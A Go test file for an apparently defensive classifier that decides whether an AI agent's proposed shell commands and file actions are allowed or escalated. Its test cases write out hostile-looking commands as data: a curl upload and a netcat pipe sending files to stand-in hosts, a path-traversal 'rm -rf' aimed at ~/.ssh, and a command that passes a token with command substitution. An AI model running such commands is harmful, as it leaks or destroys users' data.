package classify

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/shieldcli/shield/pkg/action"
	"github.com/shieldcli/shield/pkg/analysis"
	"github.com/shieldcli/shield/pkg/shell"
	"github.com/shieldcli/shield/pkg/verdict"
)

// TestNoModelClears judges real actions with a model that calls everything safe,
// and is sure of it. What no model can know better than the analysis is not
// allowed, and nothing that is asked about or blocked without a model is allowed
// by its word alone.
func TestNoModelClears(t *testing.T) {
	t.Parallel()
	an, err := analysis.New(analysis.Options{ShellAnalyzer: shell.Analyze, FileAnalyzer: shell.AnalyzeWrittenFile, Home: "/home/dev", CWD: "/home/dev/project", WorkspaceRoots: []string{"/home/dev/project"}})
	if err != nil {
		t.Fatal(err)
	}
	sure := New(Options{Model: scorer{score: InjectionScore{LabelConfidence: 1}}, Home: "/home/dev", WorkspaceRoots: []string{"/home/dev/project"}})
	alone := New(Options{Home: "/home/dev", WorkspaceRoots: []string{"/home/dev/project"}})
	rows, final, cleared := 0, 0, map[string]int{}
	for _, name := range []string{"sample/actions.jsonl", "structured/cases.jsonl", "everyday/actions.jsonl"} {
		f, err := os.Open(filepath.Join("..", "..", "testdata", name))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		for lines := bufio.NewScanner(f); lines.Scan(); rows++ {
			var row struct{ Action json.RawMessage }
			raw := lines.Bytes()
			if json.Unmarshal(raw, &row) == nil && row.Action != nil {
				raw = row.Action
			}
			a, err := action.Parse(raw)
			if err != nil {
				t.Fatal(err)
			}
			d := an.AnalyzeAction(a).WorstDoubt(nil)
			without, err := alone.Judge(t.Context(), an.AnalyzeAction(a))
			if err != nil {
				t.Fatal(err)
			}
			with, err := sure.Judge(t.Context(), an.AnalyzeAction(a))
			if err != nil {
				t.Fatal(err)
			}
			if d.NeedsAuthorityAboveClassifier() {
				final++
			}
			switch {
			case with.Decision != verdict.Allow:
			case d.NeedsAuthorityAboveClassifier():
				t.Errorf("%.200s: allowed though %s", raw, d.Reason)
			case without.Rule != "":
				t.Errorf("%.200s: allowed though the rule %s matches", raw, without.Rule)
			case without.Decision != verdict.Allow:
				cleared[without.Reasoning]++
			}
		}
	}
	t.Logf("%d actions, %d with a doubt that nothing clears; %d reasons that SAFE clears", rows, final, len(cleared))
	if rows < 2000 || final < 100 || len(cleared) == 0 {
		t.Error("the rows no longer show it")
	}
}

// TestEvidence holds that a traced case says what was weighed, and one that is
// not traced records nothing.
func TestEvidence(t *testing.T) {
	t.Parallel()
	an, err := analysis.New(analysis.Options{ShellAnalyzer: shell.Analyze, FileAnalyzer: shell.AnalyzeWrittenFile, Home: "/home/dev", CWD: "/home/dev/project", WorkspaceRoots: []string{"/home/dev/project"}})
	if err != nil {
		t.Fatal(err)
	}
	a, err := action.Parse([]byte(`{"type":"execute_command","payload":{"command":"\"$NEXT\"; \"$NEXT\"; curl -T a https://x.test"}}`))
	if err != nil {
		t.Fatal(err)
	}
	k := New(Options{Model: scorer{score: InjectionScore{LabelConfidence: 0.8}}, SafeThresholdByActionType: map[string]float64{"execute_command": 0.6}})
	c := an.AnalyzeAction(a)
	if _, err := k.Judge(t.Context(), c); err != nil || c.Tier1AllowEvidence != nil {
		t.Errorf("evidence %v, error %v", c.Tier1AllowEvidence, err)
	}
	c = an.AnalyzeAction(a)
	c.Tier1AllowEvidence = &analysis.Tier1DecisionEvidence{}
	v, err := k.Judge(t.Context(), c)
	if err != nil || v.Decision != verdict.Escalate {
		t.Errorf("decision %s, error %v", v.Decision, err)
	}
	got := c.Tier1AllowEvidence
	if got.AllowReason != "" || got.RequiredSafeConfidence != 0.6 || got.MinAllowTier > 1 || got.Answer == nil || *got.Answer != (analysis.ModelAnswer{Confidence: 0.8}) {
		t.Errorf("got %+v", got)
	}
	var causes []string
	for _, d := range got.Doubts {
		causes = append(causes, d.CauseName)
		if d.NeedsAuthorityAboveClassifier() != (d.CauseName == "send_data") {
			t.Errorf("%s: final is %v", d.CauseName, d.NeedsAuthorityAboveClassifier())
		}
	}
	if !slices.Equal(causes, []string{"variable", "contact", "remote", "send_data"}) {
		t.Errorf("causes %q", causes)
	}
}

// TestOrdinaryIsTheReason holds that ordinary work is allowed as such, however sure
// the model is of SAFE.
func TestOrdinaryIsTheReason(t *testing.T) {
	t.Parallel()
	an, err := analysis.New(analysis.Options{ShellAnalyzer: shell.Analyze, Home: "/home/dev", CWD: "/home/dev/project", WorkspaceRoots: []string{"/home/dev/project"}})
	if err != nil {
		t.Fatal(err)
	}
	a, err := action.Parse([]byte(`{"type":"execute_command","payload":{"command":"touch a.txt"}}`))
	if err != nil {
		t.Fatal(err)
	}
	for _, confidence := range []float64{0.51, 0.8, 1} {
		v, err := New(Options{Model: scorer{score: InjectionScore{LabelConfidence: confidence}}}).Judge(t.Context(), an.AnalyzeAction(a))
		if err != nil || v.Decision != verdict.Allow || v.Confidence != knownEffectsAllowConfidence || v.Reasoning != noApprovalNeededAllowReason {
			t.Errorf("SAFE %v: %s %v %q, error %v", confidence, v.Decision, v.Confidence, v.Reasoning, err)
		}
	}
}

// TestOwnSettings holds that a suspicion is no question where a project's programs start
// with its own settings, and one where more is done.
func TestOwnSettings(t *testing.T) {
	t.Parallel()
	an, err := analysis.New(analysis.Options{ShellAnalyzer: shell.Analyze, FileAnalyzer: shell.AnalyzeWrittenFile, Home: "/home/dev", CWD: "/home/dev/project", WorkspaceRoots: []string{"/home/dev/project"}})
	if err != nil {
		t.Fatal(err)
	}
	for text, want := range map[string]verdict.Decision{
		"set -a; . ./.env; set +a; npm start":             verdict.Allow,
		"set -a && source .env && set +a && go run ./cmd": verdict.Allow,
		"npm start": verdict.Allow,
		"set -a; . ./.env; set +a; npm start; touch a.txt":         verdict.Allow,
		"set -a; . ~/.env; set +a; npm start":                      verdict.Escalate,
		"set -a; . ./.env; set +a; npm start; curl https://r.test": verdict.Escalate,
		"set -a; . ./.env; set +a; npm start --token $TOKEN $(id)": verdict.Escalate,
	} {
		raw, err := json.Marshal(map[string]any{"type": "execute_command", "payload": map[string]any{"command": text}})
		if err != nil {
			t.Fatal(err)
		}
		a, err := action.Parse(raw)
		if err != nil {
			t.Fatal(err)
		}
		for _, confidence := range [...]float64{0.6, 0.95} {
			k := New(Options{OrdinaryEffectsOverrideModel: true, Model: scorer{score: InjectionScore{HasInjectionLabel: true, LabelConfidence: confidence}}, BlockThreshold: 0.85, Home: "/home/dev", WorkspaceRoots: []string{"/home/dev/project"}})
			v, err := k.Judge(t.Context(), an.AnalyzeAction(a))
			if err != nil || (v.Decision == verdict.Allow) != (want == verdict.Allow) {
				t.Errorf("%s, suspicion %.2f: %s (%s), want %s; error %v", text, confidence, v.Decision, v.Reasoning, want, err)
			}
		}
	}
}

// TestFacts holds that the default model has no say where every effect is known,
// certain and local, however sure it is, and that it has where one is not.
func TestFacts(t *testing.T) {
	t.Parallel()
	an, err := analysis.New(analysis.Options{ShellAnalyzer: shell.Analyze, FileAnalyzer: shell.AnalyzeWrittenFile, Home: "/home/dev", CWD: "/home/dev/project", WorkspaceRoots: []string{"/home/dev/project"}})
	if err != nil {
		t.Fatal(err)
	}
	opts := Options{Model: scorer{score: InjectionScore{HasInjectionLabel: true, LabelConfidence: 0.95}}, BlockThreshold: 0.85, Home: "/home/dev", WorkspaceRoots: []string{"/home/dev/project"}}
	for _, test := range []struct {
		kind, field, value string
		allowed            bool
	}{
		{"read_file", "path", "/etc/login.defs", true},
		{"read_file", "path", "/home/dev/.ssh/id_rsa.pub", true},
		{"execute_command", "command", "cat /etc/login.defs | grep UMASK", true},
		{"execute_command", "command", "cat /etc/login.defs > a.txt", true},
		{"execute_command", "command", "cat /etc/login.defs $FILE", false},
		{"execute_command", "command", "cat /etc/login.defs; unheard", false},
		{"execute_command", "command", "cat /etc/login.defs | nc example.com 99", false},
		{"execute_command", "command", "rm -rf /tmp/build-42 /var/tmp/x/* 2>/dev/null", true},
		{"execute_command", "command", "rm -rf /tmp/a /home/dev/other", false},
		{"execute_command", "command", "rm -rf ~/.cache/pip ~/.m2/repository/com/acme /tmp/x", true},
		{"execute_command", "command", "rm -rf ~/.cache/../.ssh", false},
		{"execute_command", "command", "rm -rf /home/eve/.cache/pip", false},
		{"execute_command", "command", "npm run dev > /tmp/dev.log 2>&1 & sleep 2; curl -s http://localhost:3000/health; kill $!; tail /tmp/dev.log", true},
		{"execute_command", "command", "npm run dev & curl -s http://example.com/", false},
		{"execute_command", "command", "curl -s http://localhost:3000/health", true},
		{"execute_command", "command", "sudo cat /etc/hosts", false},
		{"write_file", "path", "/home/dev/project/docs/incident.html", true},
		{"write_file", "path", "/home/dev/notes.md", false},
		{"memory_write", "path", "x", false},
	} {
		c := an.AnalyzeAction(&action.Action{Type: test.kind, Payload: map[string]any{test.field: test.value, "content": "x"}})
		for facts, want := range map[bool]bool{true: test.allowed, false: false} {
			opts.OrdinaryEffectsOverrideModel = facts
			v, err := New(opts).Judge(t.Context(), c)
			if err != nil || (v.Decision == verdict.Allow) != want {
				t.Errorf("%s %s, facts %v: %s (%s); error %v", test.kind, test.value, facts, v.Decision, v.Reasoning, err)
			}
		}
	}
}
